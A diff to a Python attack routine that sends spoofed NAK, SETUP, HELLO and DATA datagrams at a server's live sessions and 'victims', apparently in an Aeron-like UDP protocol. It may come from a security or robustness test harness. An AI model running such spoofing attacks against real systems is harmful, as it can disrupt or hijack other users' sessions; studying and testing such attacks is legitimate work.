@@ -105,15 +105,14 @@ def _attack_rounds(server, spoofer: h.Spoofer, victims: dict[str, h.Victim], rou
         term_id = (s.initial_term_id + (s.sender_position >> s.shift)) & 0xFFFFFFFF
         term_id = term_id - (1 << 32) if term_id >= 1 << 31 else term_id
         send("NAK", control, h.nak(s.session_id, s.stream_id, term_id, 0, s.term_length // 2))
-    # SETUP: new HELLO images, and one for each live session's private stream
-    send("SETUP", port, h.setup(fresh, HANDSHAKE_STREAM_ID))
-    for d in sessions:
-        send("SETUP", port, h.setup(d.c2s_session_id, d.c2s_stream_id, term_length=d.term_length))
-    # HELLO: a whole HELLO publication (SETUP + DATA with a real HELLO)
-    machine = ClientHandshake(lambda key: None)
-    machine.start(0)
-    send("HELLO", port, h.setup(fresh + 1, HANDSHAKE_STREAM_ID))
-    send("HELLO", port, h.data(fresh + 1, HANDSHAKE_STREAM_ID, machine.hello()))
+    if round_ == 0:
+        # SETUP: one datagram, a new HELLO image (which answers with SMs while it lives)
+        send("SETUP", port, h.setup(fresh, HANDSHAKE_STREAM_ID))
+        # HELLO: one whole HELLO publication (SETUP + DATA with a real HELLO)
+        machine = ClientHandshake(lambda key: None)
+        machine.start(0)
+        send("HELLO", port, h.setup(fresh + 1, HANDSHAKE_STREAM_ID))
+        send("HELLO", port, h.data(fresh + 1, HANDSHAKE_STREAM_ID, machine.hello()))
     # DATA: for unknown sessions (asks for SETUP), and for each live session's ids
     send("DATA", port, h.data(fresh + 2, HANDSHAKE_STREAM_ID, b"\x00" * 64))
     for d in sessions:
